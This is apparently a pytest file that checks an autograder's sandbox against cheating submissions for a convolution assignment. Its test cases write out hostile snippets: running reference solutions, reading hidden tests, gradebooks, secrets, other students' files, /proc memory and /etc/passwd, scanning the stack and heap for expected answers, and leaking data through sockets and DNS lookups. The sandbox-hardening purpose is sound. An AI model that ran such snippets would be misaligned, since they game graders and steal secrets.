"""Searching for the reference, the tests, other people's work and the network: none is found."""

import os
from pathlib import Path

import pytest

from .harness import CONV, POOL, Arena, Attack, cases

pytestmark = [pytest.mark.each_tier, pytest.mark.explained]


@cases(
    Attack(
        "the reference in the checkout",
        "Runs the solved file, whose place it knows.",
        """
        try:
            exec(open(ROOT + "/daseCV/layers.py").read())
        except OSError:
            pass
        """,
        solved=False,
        says="is not written yet",
    ),
    Attack(
        "the reference anywhere",
        "Looks through all folders for a file that solves the first blank.",
        """
        import os
        for folder, folders, names in os.walk("/"):
            folders[:] = set(folders) - {"proc", "sys"}
            if "layers.py" in names and folder != os.path.dirname(__file__):
                text = open(f"{folder}/layers.py").read()
                exec(text if "conv_forward_naive" in text else "")
        """,
        solved=False,
        says="is not written yet",
    ),
    Attack(
        "an installed reference",
        "Imports the package from elsewhere, with the checkout and every folder it can think of.",
        """
        import sys, sysconfig
        ours = sys.modules.pop(__name__)
        places = ROOT, "/usr/lib/python3/dist-packages", *sysconfig.get_paths().values()
        sys.path[:0] = places
        try:
            import autograder.checks
            from autograder.checks.questions import convolution
            conv_forward_naive = convolution.conv_forward_fast
        finally:
            sys.modules[__name__] = ours
        """,
        solved=False,
        says="No module named 'autograder'",
    ),
    Attack(
        "the tests and the gradebook",
        "Opens files of a course: hidden checks, the secret, the gradebook.",
        """
        import glob, os
        places = [ROOT, os.getcwd(), os.path.dirname(__file__), "/root", "/home", "/srv", "/work"]
        names = ("autograder/checks/registry.py", "tests/conftest.py", "gradebook.db", "secret*")
        found = []
        for place in places:
            for name in names:
                for path in glob.glob(f"{place}/**/{name}", recursive=True):
                    try:
                        found.append(open(path).read())
                    except OSError:
                        pass
        conv_forward_naive = lambda *_: (np.zeros(len(found)), None)
        """,
        earns=(POOL,),
        says="out has shape (0,)",
    ),
    Attack(
        "other submissions",
        "Looks for the folders of submissions that are graded at the same time.",
        """
        import glob, os
        mine = os.path.realpath(__file__ + "/../../..")
        found = glob.glob("/tmp/*/**/layers.py", recursive=True) + glob.glob("/tmp/*")
        others = [path for path in map(os.path.realpath, found)
                  if not path.startswith(mine) and not mine.startswith(path)]
        conv_forward_naive = lambda *_: (np.zeros(len(others)), None)
        """,
        earns=(POOL,),
        says="out has shape (0,)",
    ),
    Attack(
        "environment variables",
        "Looks for a token that the grader was given.",
        """
        import os
        known = {"PATH", "HOME", "TMPDIR", "LANG", "LC_CTYPE", "PWD", "LD_LIBRARY_PATH"}
        extra = set(os.environ) - known
        extra = [name for name in extra if not name.endswith("_NUM_THREADS")]
        conv_forward_naive = lambda *_: (np.zeros(len(extra)), None)
        """,
        earns=(POOL,),
        says="out has shape (0,)",
    ),
    Attack(
        "the parent through /proc",
        "Reads the memory, the variables and the open files of all processes but its own.",
        """
        import functools, os
        @functools.cache
        def look():
            return list(open_all())
        def open_all():
            for pid in {*range(1, 4000)} - {os.getpid()}:
                for what in ("environ", "mem", "maps", "fd/0", "root/etc/passwd"):
                    try:
                        yield open(f"/proc/{pid}/{what}", "rb")
                    except OSError:
                        pass
        conv_forward_naive = lambda *_: (np.zeros(len(look())), None)
        """,
        earns=(POOL,),
        says="out has shape (0,)",
    ),
    Attack(
        "expected values on the stack",
        "Climbs the stack for the frame that knows what is expected, and answers with that.",
        """
        import sys
        def conv_forward_naive(*_):
            frame = sys._getframe()
            while frame := frame.f_back:
                for name in ("expected", "right", "exact", "ours"):
                    if name in frame.f_locals:
                        return frame.f_locals[name], None
        """,
        solved=False,
    ),
    Attack(
        "expected values on the heap",
        "Looks through all objects alive for an array of the shape that an answer has to have.",
        """
        import gc
        def conv_forward_naive(x, w, b, conv_param):
            stride, pad = conv_param["stride"], conv_param["pad"]
            size = [1 + (x.shape[i] + 2 * pad - w.shape[i]) // stride for i in (2, 3)]
            shape = (len(x), len(w), *size)
            for found in gc.get_objects():
                for value in gc.get_referents(found):
                    if isinstance(value, np.ndarray) and value.shape == shape and value is not x:
                        return value, None
        """,
        solved=False,
    ),
    Attack(
        "the network",
        "Sends its inputs home and asks there for the answers.",
        """
        import socket
        def conv_forward_naive(*_):
            socket.create_connection(("192.0.2.1", 80), timeout=1)
        """,
        earns=(POOL,),
        says="OSError",
    ),
    Attack(
        "names on the network",
        "Hides its inputs in a name that it asks a name server for.",
        """
        import socket
        def conv_forward_naive(x, *_):
            socket.getaddrinfo(f"{x.sum()}.example.org", 80)
        """,
        earns=(POOL,),
        says="rror",
    ),
    Attack(
        "sockets of every other kind",
        "Tries each family of sockets that the kernel has, such as one to the host of a machine.",
        """
        import socket
        def open_sockets():
            for family in range(64):
                for kind in socket.SocketKind:
                    try:
                        yield socket.socket(family, kind)
                    except OSError:
                        pass
        conv_forward_naive = lambda *_: (np.zeros(len(list(open_sockets()))), None)
        """,
        earns=(POOL,),
        says="out has shape (0,)",
    ),
)
def test_searching_outside_the_submission_finds_nothing(attack: Attack, arena: Arena) -> None:
    arena.assert_fails(attack)


def test_a_token_in_the_grader_s_environment_cannot_be_read(
    arena: Arena, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A submission does not see the grader's own environment variables."""
    monkeypatch.setenv("DASECV_TOKEN", "a token of the grader's")
    attack = Attack(
        "a token",
        "Prints every variable.",
        "import os\ndef conv_forward_naive(*_): raise ValueError(dict(os.environ))",
        earns=(POOL,),
    )

    report = arena.assert_fails(attack)

    assert "a token of the grader's" not in str(report)


def test_a_file_of_another_user_cannot_be_read(arena: Arena, tmp_path: Path) -> None:
    """The neighbour's submission is in a folder whose name is known."""
    other = tmp_path / "layers.py"
    other.write_bytes(arena.solved["daseCV/layers.py"])
    for folder in (tmp_path, *tmp_path.parents):
        if os.stat(folder).st_uid == os.getuid() and folder != Path("/"):
            folder.chmod(0o755)
    attack = Attack(
        "a neighbour's file",
        "Runs the file of somebody who has solved it.",
        f"exec(open({str(other)!r}).read())",
        solved=False,
        asked=(CONV,),
    )

    arena.assert_fails(attack)
